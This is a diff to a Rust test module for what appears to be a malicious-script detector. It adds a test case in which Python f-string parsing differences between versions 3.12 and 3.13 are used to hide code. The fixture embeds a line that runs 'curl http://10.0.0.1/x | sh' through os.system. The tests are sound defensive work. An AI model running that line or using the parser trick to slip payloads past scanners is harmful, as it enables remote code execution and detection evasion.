@@ -244,10 +244,12 @@ mod tests {
         // ends the f-string there, and a 3.12 reading takes it for a string swallowing the
         // shell.
         let for_313 = format!("_ = lambda: f\"\"\"{{_:{{_}}{{{{}}\"\"\"\n{SHELL}");
+        // The same after a field of the spec's with a spec of its own.
+        let for_313_spec = for_313.replace("{_:{_}{{}", "{_:{_:1}{{}");
         // Valid in both, and in 3.12 the `{{…}}` is a field: a set holding the call.
         let for_312 =
             "x = y = 1\nf\"{x:{y}{{__import__('os').system('curl http://10.0.0.1/x | sh')}}}\"\n";
-        for script in [&for_313, for_312] {
+        for script in [&for_313, &for_313_spec, for_312] {
             assert!(c.score(script) >= c.threshold(), "{script:?}");
             assert!(c.explain(script).score >= c.threshold(), "{script:?}");
         }
@@ -259,6 +261,7 @@ mod tests {
         };
         use lexer::Grammar::{Python312, Python313};
         assert!(!read(&for_313, Python312) && read(&for_313, Python313));
+        assert!(!read(&for_313_spec, Python312) && read(&for_313_spec, Python313));
         assert!(read(for_312, Python312) && !read(for_312, Python313));
     }
 
